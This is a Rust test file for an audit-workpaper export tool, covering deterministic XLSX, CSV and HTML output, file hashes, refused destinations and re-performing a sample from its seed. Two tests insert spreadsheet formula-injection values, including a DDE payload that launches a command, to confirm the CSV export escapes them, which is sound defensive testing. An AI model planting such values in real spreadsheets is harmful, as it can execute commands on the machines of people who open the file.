        // Trail and export.
        TRAIL_HEAD,
        "214",
        EXPORTED_AT,
        tickmark::VERSION,
        // The second control, with no sample yet.
        "CC6.2-01: New user access is approved before it is granted",
        "No sample drawn",
    ]
    .map(String::from)
    .to_vec();
    expected.push(udl);
    expected.extend((1..=SAMPLE_SIZE).map(key));
    for text in &expected {
        assert!(page.contains(text.as_str()), "the page lacks {text:?}");
    }
    // ✓ for every pass, X for the two exceptions, N/A once.
    assert_eq!(page.matches("<td>X</td>").count(), 2);
    assert_eq!(page.matches("<td>N/A</td>").count(), 1);
    assert_eq!(page.matches("<td>✓</td>").count(), 25 * 3 - 3);
}

#[test]
fn a_stratified_sample_lists_its_strata_with_their_sizes() {
    let mut wp = workpaper();
    let sample = wp.controls[0].sample.as_mut().unwrap();
    sample.method = Method::Stratified;
    sample.strata_by = Some(tickmark::draw::StrataBy::Quarter);
    sample.strata = [("2026-Q1", 98, 6), ("2026-Q2", 104, 6), ("2026-Q3", 101, 6), ("2026-Q4", 109, 7)]
        .map(|(label, size, selected)| StratumSize { label: label.into(), size, selected })
        .to_vec();
    for (i, item) in sample.items.iter_mut().enumerate() {
        item.stratum = Some(format!("2026-Q{}", i * 4 / SAMPLE_SIZE as usize + 1));
    }
    let page = html(&wp);
    assert!(page.contains("<th>Strata by</th><td>quarter</td>"));
    assert!(page.contains("2026-Q1: 98 items, 6 selected\n2026-Q2: 104 items, 6 selected"));
    assert!(page.contains("<th>Stratum</th>"), "the sample listing shows each item's stratum");

    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    export_ok(&wp, Format::Xlsx, &out);
    let sample = table(&sheet(&out, "Sample"), "Control");
    assert_eq!(sample[0]["Stratum"], Data::String("2026-Q1".into()));
    assert_eq!(sample[24]["Stratum"], Data::String("2026-Q4".into()));
}

#[test]
fn the_control_without_a_sample_is_listed_with_its_status_and_empty_parts() {
    let s = Sandbox::new();
    let out = s.path("acme-csv");
    export_ok(&workpaper(), Format::Csv, &out);
    let (_, summary) = csv_rows(&out.join("summary.csv"));
    assert_eq!(summary.len(), 2);
    assert_eq!(summary[0][..3], ["CC8.1-01", "Changes are approved and tested before deployment", "Reviewed"]);
    assert_eq!(summary[0][7..], ["Exceptions noted", "Dana Whitfield", "Marcus Oyelaran", "1"]);
    assert_eq!(
        summary[1][..5],
        ["CC6.2-01", "New user access is approved before it is granted", "No sample drawn", "187", ""]
    );
    let (_, sample) = csv_rows(&out.join("sample.csv"));
    assert!(sample.iter().all(|r| r[0] == "CC8.1-01"));

    let page = html(&workpaper());
    let access = &page[page.find("CC6.2-01: New user").unwrap()..];
    assert!(access.contains("<h3>Sample</h3>\n<p class=\"none\">None recorded.</p>"));
}

#[test]
fn the_same_workpaper_exports_byte_identical_files_in_every_format() {
    let s = Sandbox::new();
    let wp = workpaper();
    for format in [Format::Xlsx, Format::Csv, Format::Html] {
        let first = s.path(&format!("first.{format}"));
        let second = s.path(&format!("second.{format}"));
        let a = export_ok(&wp, format, &first);
        let b = export_ok(&wp, format, &second);
        assert_eq!(a.files.len(), b.files.len());
        for (f, g) in a.files.iter().zip(&b.files) {
            let (x, y) = match format {
                Format::Csv => (first.join(&f.name), second.join(&g.name)),
                _ => (first.clone(), second.clone()),
            };
            assert_eq!(fs::read(x).unwrap(), fs::read(y).unwrap(), "{format}: {} differs", f.name);
            assert_eq!((f.bytes, &f.sha256), (g.bytes, &g.sha256));
        }
    }
}

#[test]
fn only_the_export_time_differs_between_two_exports_of_the_same_engagement() {
    let s = Sandbox::new();
    let mut later = workpaper();
    later.exported_at = "2026-11-24T08:30:00Z".into();
    let a = export_ok(&workpaper(), Format::Csv, &s.path("a"));
    let b = export_ok(&later, Format::Csv, &s.path("b"));
    let changed: Vec<&str> =
        a.files.iter().zip(&b.files).filter(|(x, y)| x.sha256 != y.sha256).map(|(x, _)| x.name.as_str()).collect();
    assert_eq!(changed, ["engagement.csv", "trail.csv"]);
    let x = export_ok(&workpaper(), Format::Xlsx, &s.path("a.xlsx"));
    let y = export_ok(&later, Format::Xlsx, &s.path("b.xlsx"));
    assert_ne!(x.files[0].sha256, y.files[0].sha256, "the workbook records its export time");
}

#[test]
fn the_summary_names_each_file_with_its_size_and_sha256() {
    let s = Sandbox::new();
    for (format, out) in [(Format::Csv, s.path("acme-csv")), (Format::Xlsx, s.path("acme.xlsx"))] {
        let summary = export_ok(&workpaper(), format, &out);
        assert_eq!(summary.path, out);
        assert_eq!(summary.format, format);
        for f in &summary.files {
            let path = if format == Format::Csv { out.join(&f.name) } else { out.clone() };
            let bytes = fs::read(&path).unwrap();
            assert_eq!(f.bytes, bytes.len() as u64);
            assert_eq!(f.sha256, format!("{:x}", Sha256::digest(&bytes)));
        }
    }
    let json = serde_json::to_value(export_ok(&workpaper(), Format::Html, &s.path("p.html"))).unwrap();
    assert_eq!(json["format"], "html");
    assert_eq!(json["files"][0]["name"], "p.html");
}

fn assert_refused(result: Result<tickmark::export::ExportSummary, Error>, words: &[&str]) -> Error {
    let e = result.expect_err("the export is refused");
    let message = e.to_string();
    for w in words {
        assert!(message.contains(w), "{message:?} lacks {w:?}");
    }
    e
}

#[test]
fn a_destination_in_a_missing_folder_is_refused_by_name() {
    let s = Sandbox::new();
    let missing = s.path("no-such-folder");
    for format in [Format::Xlsx, Format::Csv, Format::Html] {
        let e = assert_refused(
            export(&workpaper(), format, &missing.join("out"), false),
            &[&missing.display().to_string(), "no such folder"],
        );
        assert_eq!(e.code(), "invalid");
    }
    assert_eq!(listing(s.dir.path()), Vec::<String>::new());
}

#[test]
fn a_read_only_folder_is_refused_by_name_and_left_empty() {
    use std::os::unix::fs::PermissionsExt;
    let s = Sandbox::new();
    let dir = s.path("read-only");
    fs::create_dir(&dir).unwrap();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o555)).unwrap();
    if fs::write(dir.join("probe"), b"").is_ok() {
        // Running as root (as in some containers): permissions do not bind, nothing to test here.
        fs::remove_file(dir.join("probe")).unwrap();
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
        eprintln!("skipped: this user can write into a read-only folder");
        return;
    }
    for format in [Format::Xlsx, Format::Csv, Format::Html] {
        assert_refused(
            export(&workpaper(), format, &dir.join("out"), false),
            &[&dir.display().to_string(), "read-only"],
        );
    }
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(listing(&dir), Vec::<String>::new());
}

#[test]
fn an_existing_file_or_folder_is_refused_unless_forced() {
    let s = Sandbox::new();
    let file = s.write("acme.xlsx", b"an earlier workbook");
    let e = assert_refused(export(&workpaper(), Format::Xlsx, &file, false), &["already exists"]);
    assert_eq!(e.code(), "already_exists");
    assert_eq!(fs::read(&file).unwrap(), b"an earlier workbook");

    let folder = s.path("acme-csv");
    export_ok(&workpaper(), Format::Csv, &folder);
    let e = assert_refused(export(&workpaper(), Format::Csv, &folder, false), &["already exists"]);
    assert_eq!(e.code(), "already_exists");
    assert_eq!(listing(s.dir.path()), ["acme-csv", "acme.xlsx"], "no temporary file is left behind");

    export(&workpaper(), Format::Xlsx, &file, true).unwrap();
    assert!(fs::read(&file).unwrap().starts_with(b"PK"), "forced: replaced by the workbook");
}

#[test]
fn force_replaces_an_earlier_csv_export_but_never_a_folder_of_other_things() {
    let s = Sandbox::new();
    let folder = s.path("acme-csv");
    export_ok(&workpaper(), Format::Csv, &folder);
    fs::write(folder.join("old-sheet.csv"), "stale").unwrap();
    export(&workpaper(), Format::Csv, &folder, true).unwrap();
    assert_eq!(listing(&folder), CSV_FILES, "the earlier export is replaced as a whole");

    let documents = s.path("Documents");
    fs::create_dir(&documents).unwrap();
    fs::write(documents.join("engagement letter.docx"), "signed").unwrap();
    assert_refused(
        export(&workpaper(), Format::Csv, &documents, true),
        &["Documents", "not replaced", "holds more than the CSV files"],
    );
    assert_eq!(listing(&documents), ["engagement letter.docx"]);

    assert_refused(export(&workpaper(), Format::Html, &documents, true), &["is a folder"]);
    let file = s.write("notes.txt", "mine");
    assert_refused(export(&workpaper(), Format::Csv, &file, true), &["not a folder"]);
    assert_eq!(fs::read_to_string(&file).unwrap(), "mine");
    assert_eq!(listing(s.dir.path()), ["Documents", "acme-csv", "notes.txt"], "no temporary file is left behind");
}

#[test]
fn an_exported_file_is_as_readable_as_any_file_the_user_saves() {
    use std::os::unix::fs::PermissionsExt;
    let s = Sandbox::new();
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode();
    let ordinary = s.write("ordinary.txt", "saved by the user");
    for format in [Format::Xlsx, Format::Html] {
        let out = s.path(&format!("acme.{format}"));
        export_ok(&workpaper(), format, &out);
        assert_eq!(mode(&out), mode(&ordinary), "{format}");
    }
    let folder = s.path("acme-csv");
    export_ok(&workpaper(), Format::Csv, &folder);
    assert_eq!(mode(&folder.join("summary.csv")), mode(&ordinary));
    let made = s.path("made-by-the-user");
    fs::create_dir(&made).unwrap();
    assert_eq!(mode(&folder), mode(&made));
}

#[test]
fn a_workpaper_without_controls_is_refused_and_nothing_is_written() {
    let s = Sandbox::new();
    let mut wp = workpaper();
    wp.controls.clear();
    for format in [Format::Xlsx, Format::Csv, Format::Html] {
        let e = assert_refused(export(&wp, format, &s.path("out"), false), &["no controls", "nothing to export"]);
        assert_eq!(e.code(), "invalid");
    }
    assert_eq!(listing(s.dir.path()), Vec::<String>::new());
}

#[test]
fn an_export_time_that_is_not_rfc_3339_is_refused() {
    let s = Sandbox::new();
    let mut wp = workpaper();
    wp.exported_at = "yesterday".into();
    assert_refused(export(&wp, Format::Xlsx, &s.path("out.xlsx"), false), &["\"yesterday\""]);
    assert_eq!(listing(s.dir.path()), Vec::<String>::new());
}

#[test]
fn text_too_long_for_an_excel_cell_is_refused_by_place_and_other_formats_still_export() {
    let s = Sandbox::new();
    let mut wp = workpaper();
    wp.interviews[0].notes = "The walkthrough covered every release. ".repeat(1000);
    assert_refused(
        export(&wp, Format::Xlsx, &s.path("acme.xlsx"), false),
        &["Interviews sheet", "\"Notes\"", "32,767", "CSV or HTML"],
    );
    assert_eq!(listing(s.dir.path()), Vec::<String>::new(), "no partial workbook");
    export_ok(&wp, Format::Csv, &s.path("acme-csv"));
    export_ok(&wp, Format::Html, &s.path("acme.html"));
}

#[test]
fn formats_are_xlsx_csv_and_html() {
    assert_eq!("xlsx".parse::<Format>().unwrap(), Format::Xlsx);
    assert_eq!("CSV".parse::<Format>().unwrap(), Format::Csv);
    assert_eq!(" html ".parse::<Format>().unwrap(), Format::Html);
    let e = "pdf".parse::<Format>().unwrap_err();
    assert_eq!(e.to_string(), "unknown export format \"pdf\": expected xlsx, csv or html");
}

#[test]
fn a_fifty_control_workpaper_exports_in_every_format() {
    let s = Sandbox::new();
    let mut wp = workpaper();
    let template = change_control();
    wp.controls = (1..=50)
        .map(|i| {
            let mut c = template.clone();
            c.control.code = format!("CC8.1-{i:02}");
            c
        })
        .collect();
    for format in [Format::Xlsx, Format::Csv, Format::Html] {
        let out: PathBuf = s.path(&format!("fifty.{format}"));
        export_ok(&wp, format, &out);
    }
    let sample = table(&sheet(&s.path("fifty.xlsx"), "Sample"), "Control");
    assert_eq!(sample.len(), 50 * SAMPLE_SIZE as usize);
}

/// Reads one of an exported CSV folder's files (BOM stripped) as header-keyed rows.
fn csv_records(dir: &Path, name: &str) -> Vec<BTreeMap<String, String>> {
    let text = fs::read_to_string(dir.join(name)).unwrap();
    let mut reader = ::csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|r| headers.iter().zip(r.unwrap().iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect())
        .collect()
}

/// An engagement file through the real binary: the demo's change tickets (scoped by two
/// exclusion rules, with the demo's sample replaced by a 12-item draw), every result, one
/// exception.
fn tested_engagement(s: &Sandbox) -> PathBuf {
    s.ok(&["demo", "--out", "acme.tickmark"]);
    s.ok(&[
        "sample",
        "acme.tickmark",
        "--control",
        "CC8.1-01",
        "--size",
        "12",
        "--seed",
        "2026-fieldwork",
        "--tolerable-rate",
        "0.05",
        "--replace",
        "redrawn for the export test",
    ]);
    let attributes: Vec<String> = s
        .json(&["controls", "list", "acme.tickmark"])
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["code"] == "CC8.1-01")
        .unwrap()["attributes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["label"].as_str().unwrap().to_string())
        .collect();
    for item in 1..=12 {
        for a in &attributes {
            let outcome: &[&str] = if item == 4 && a == "A" {
                &["--exception", "=HYPERLINK(\"http://x\",\"approved after deploy\")"]
            } else {
                &["--pass"]
            };
            let mut args = vec!["result", "acme.tickmark", "--control", "CC8.1-01", "--item"];
            let item = item.to_string();
            args.push(&item);
            args.extend(["--attribute", a.as_str()]);
            args.extend(outcome);
            s.ok(&args);
        }
    }
    s.path("acme.tickmark")
}

#[test]
fn the_cli_export_of_the_same_engagement_is_byte_identical_and_names_its_format() {
    let s = Sandbox::new();
    tested_engagement(&s);
    s.ok(&["export", "acme.tickmark", "--format", "xlsx", "--out", "one.xlsx"]);
    s.ok(&["export", "acme.tickmark", "--format", "xlsx", "--out", "two.xlsx"]);
    assert!(fs::read(s.path("one.xlsx")).unwrap() == fs::read(s.path("two.xlsx")).unwrap());
    let err = s.fails(&["export", "acme.tickmark", "--format", "xlsx", "--out", "one.xlsx"]);
    assert!(err.contains("one.xlsx"), "{err}");
    let err = s.fails(&["export", "acme.tickmark", "--out", "three.xlsx"]);
    assert!(err.contains("export needs the workpaper's format: --format xlsx, csv or html"), "{err}");
    let err = s.fails(&["controls", "list", "acme.tickmark", "--format", "csv"]);
    assert!(err.contains("are for `tickmark export`"), "{err}");
    assert!(!s.path("three.xlsx").exists());
}

#[test]
fn the_exported_sample_is_re_performed_by_select_from_the_source_file_and_the_exported_seed() {
    let s = Sandbox::new();
    tested_engagement(&s);
    s.ok(&["exception", "acme.tickmark", "--control", "CC8.1-01", "--item", "4", "--narrative", "=cmd|' /C calc'!A0"]);
    s.ok(&["export", "acme.tickmark", "--control", "CC8.1-01", "--format", "csv", "--out", "wp"]);
    let sampling = csv_records(&s.path("wp"), "sampling.csv");
    let draw = sampling.iter().find(|d| d["Status"] == "current").unwrap();
    assert_eq!(draw["Specification"], "tickmark-sample-v1");
    // The rules that scoped the frame, as the workpaper records them: "RULE (N rows): reason".
    let rules: Vec<&str> = draw["Exclusion rules"].lines().map(|l| l.split(" (").next().unwrap()).collect();
    assert_eq!(rules, ["outside-period", "blank-key", "duplicate-key", "column:Status=Canceled|Declined"]);
    let listed: Vec<(String, String)> = csv_records(&s.path("wp"), "sample.csv")
        .into_iter()
        .map(|r| (r["Position"].clone(), r["Key"].clone()))
        .collect();
    assert_eq!(listed.len(), 12);
    // The reviewer holds only the client's file (its SHA-256 is in the workpaper) and the seed.
    let source = s.path("demo-sources/change_tickets.csv");
    let mut args = vec![
        "select",
        source.to_str().unwrap(),
        "--size",
        &draw["Sample size (n)"],
        "--seed",
        &draw["Seed"],
        "--method",
        &draw["Method"],
        "--key",
        "Issue key",
        "--date",
        "Created",
        "--period",
        "2026-01-01..2026-12-31",
    ];
    for rule in &rules {
        args.extend(["--exclude", rule]);
    }
    let sel = s.json(&args);
    assert_eq!(sel["population"]["items"].to_string(), draw["Population size (N)"]);
    assert_eq!(sel["population"]["sha256"].as_str().unwrap(), draw["Population SHA-256"]);
    let reperformed: Vec<(String, String)> = sel["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["position"].to_string(), i["key"].as_str().unwrap().to_string()))
        .collect();
    assert_eq!(reperformed, listed);
    // Text that starts like a formula is escaped where it starts a cell.
    let exceptions = csv_records(&s.path("wp"), "exceptions.csv");
    assert_eq!(exceptions[0]["Narrative"], "'=cmd|' /C calc'!A0");
    assert_eq!(exceptions[0]["Key"], listed[3].1);
}
